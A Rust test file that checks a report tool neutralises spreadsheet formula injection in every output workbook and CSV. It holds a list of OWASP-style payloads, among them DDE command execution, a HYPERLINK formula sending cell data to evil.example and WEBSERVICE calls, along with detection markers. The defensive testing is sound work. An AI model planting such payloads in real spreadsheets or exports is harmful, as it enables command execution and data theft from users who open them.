//! What people type to make a spreadsheet compute, link or start something is text in every output.

use crate::support::{COMMENTED_MONEY_TITLES, KPI_TITLES, coe_report};
use rust_xlsxwriter::Workbook;
use std::{
    collections::BTreeSet,
    fs::File,
    io::Read,
    path::{Path, PathBuf},
};

/// Source of the first ones: OWASP, *CSV Injection*.
const PAYLOADS: [&str; 14] = [
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=DDE(\"cmd\",\"/c calc\",\"evil\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
    "http://evil.example/path",
    "file:///evil/share",
];

const INITIATIVES: [&str; 14] = [
    "Initiative ID",
    "Initiative name",
    "Department",
    "Business owner",
    "Executive sponsor",
    "Sponsor e-mail",
    "Outcome category",
    "Phase",
    "Submitted on",
    "Status",
    "Status reason",
    "Decision needed",
    "Problem statement",
    "Our own column",
];
const TEAM: [&str; 6] = ["Initiative ID", "Person e-mail", "Person", "Role", "FTE", "Home department"];

/// Name, titles and rows of a sheet.
type Sheet<'a> = (&'a str, &'a [&'a str], Vec<Vec<&'a str>>);

/// A workbook in which a payload stands in every cell that takes text, and in some that do not.
fn intake_workbook(path: &Path, number: usize, payload: &str) {
    let id = format!("P-{number}");
    let email = format!("sponsor{number}@x.example");
    let idea = [
        &id,
        payload,
        payload,
        payload,
        payload,
        &email,
        "Other",
        "Idea",
        "2026-01-05",
        "Red",
        payload,
        payload,
        payload,
        payload,
    ];
    let sound = [&format!("S-{number}"), payload, "Finance", payload, payload, &email];
    let rest = ["Other", "Idea", "2026-01-05", "Red", payload, payload, payload, payload];
    let id_itself = [payload, "By its id", "Finance", "Ada", payload, &email];
    let sheets: [Sheet; 4] = [
        (
            "Initiatives",
            &INITIATIVES,
            vec![idea.to_vec(), [&sound[..], &rest].concat(), [&id_itself[..], &rest].concat()],
        ),
        ("Financials", &COMMENTED_MONEY_TITLES, vec![vec![sound[0], "2026-10", "10", "12", "5", payload, payload]]),
        (
            "Outcomes",
            &KPI_TITLES,
            vec![vec![sound[0], payload, "Higher is better", payload, "1", "5", "2026-10-01", "2"]],
        ),
        ("Team", &TEAM, vec![vec![sound[0], "a@x.example", payload, payload, "1", payload]]),
    ];
    let mut book = Workbook::new();
    for (name, titles, rows) in sheets {
        let sheet = book.add_worksheet().set_name(name).unwrap();
        for (row, cells) in (0..).zip(std::iter::once(titles.to_vec()).chain(rows)) {
            for (column, cell) in (0..).zip(cells) {
                sheet.write_string(row, column, cell).unwrap();
            }
        }
    }
    book.save(path).unwrap();
}

fn files(folder: &Path, ending: &str) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let (folders, plain): (Vec<_>, Vec<_>) = entries.partition(|path| path.is_dir());
    let mut found: Vec<PathBuf> =
        plain.into_iter().filter(|path| path.extension().is_some_and(|found| found == ending)).collect();
    found.extend(folders.iter().flat_map(|folder| files(folder, ending)));
    found
}

/// The code of every formula in a part: what stands between `<f …>` and `</f>`.
fn formulas(xml: &str) -> String {
    let starts = xml.split("<f>").skip(1).chain(xml.split("<f ").skip(1));
    starts.filter_map(|rest| Some(rest.split_once("</f>")?.0)).collect()
}

/// Formulas and addresses of links in a workbook that no cell of ours can have.
fn dangers(workbook: &Path) -> (usize, Vec<String>) {
    let mut package = zip::ZipArchive::new(File::open(workbook).unwrap()).unwrap();
    let (mut texts, mut found) = (0, Vec::new());
    for index in 0..package.len() {
        let mut part = package.by_index(index).unwrap();
        let name = part.name().unwrap().into_owned();
        let mut xml = String::new();
        if part.read_to_string(&mut xml).is_err() {
            continue;
        }
        if name.contains("externalLink") || name.contains("vba") || name.contains("connections") {
            found.push(name.clone());
        }
        if name.ends_with(".rels") {
            // Answers go to the programme's lead; what was asked may be quoted in them.
            let targets = xml.split("Target=\"").skip(1);
            let outside =
                targets.filter(|target| target.contains("evil") && !target.starts_with("mailto:lead@x.example?"));
            found.extend(outside.map(|target| format!("{name}: {target}")));
        }
        if name.contains("worksheets/sheet") {
            // Our own formulas may add a billionth to a cell of row 11.
            let code = formulas(&xml).replace("+1E-9", "");
            let markers = ["calc", "evil", "cmd", "1+1", "SUM(1"];
            found.extend(
                markers.iter().filter(|marker| code.contains(*marker)).map(|marker| format!("{name}: {marker}")),
            );
        }
        texts += usize::from(xml.contains("1+1"));
    }
    (texts, found)
}

#[test]
fn payloads_are_text_in_every_output() {
    let folder = tempfile::tempdir().unwrap();
    let intake = folder.path().join("intake");
    std::fs::create_dir(&intake).unwrap();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        // File names that begin like formulas, too.
        let start = ["=1+1", "+1", "-1", "@SUM(1)", "＝1"][number % 5];
        intake_workbook(&intake.join(format!("{start} {number}.xlsx")), number, payload);
    }
    let settings = "level = \"start\"\nprogram_lead = \"lead@x.example\"\nsponsor_workbooks = [\"*\"]\n";
    std::fs::write(folder.path().join("report.toml"), settings).unwrap();
    coe_report(folder.path(), &["run", "intake", "--period", "2026-10", "--out", "out", "-q"]);
    coe_report(folder.path(), &["check", "intake", "--period", "2026-10", "--annotate", "answers", "-q"]);

    let mut workbooks = files(&folder.path().join("out"), "xlsx");
    let answers = files(&folder.path().join("answers"), "xlsx");
    // The finance workbook, the decisions, a workbook a sponsor; a copy of each intake workbook.
    assert_eq!((workbooks.len(), answers.len()), (2 + PAYLOADS.len(), PAYLOADS.len()));
    workbooks.extend(answers);
    let mut carrying = 0;
    for workbook in &workbooks {
        let (texts, found) = dangers(workbook);
        assert_eq!(found, Vec::<String>::new(), "in {}", workbook.display());
        carrying += texts;
    }
    assert!(carrying > PAYLOADS.len(), "the payloads did not reach the outputs: {carrying}");

    let bytes = std::fs::read(folder.path().join("out/2026-10/findings.csv")).unwrap();
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.strip_prefix("\u{feff}".as_bytes()).unwrap());
    let cells: BTreeSet<String> =
        reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    for cell in &cells {
        let is_number = cell.replace(',', "").parse::<f64>().is_ok();
        let first = cell.chars().next().unwrap_or('.');
        assert!(is_number || !"=+-@\t\r\n＝＋－＠".contains(first), "{cell:?} is run by a spreadsheet");
    }
    // Harmless, and still to be read.
    assert!(cells.iter().any(|cell| cell.starts_with("'=1+1 0.xlsx")), "{cells:?}");
    assert!(cells.contains("'-1+1"), "{cells:?}");
}
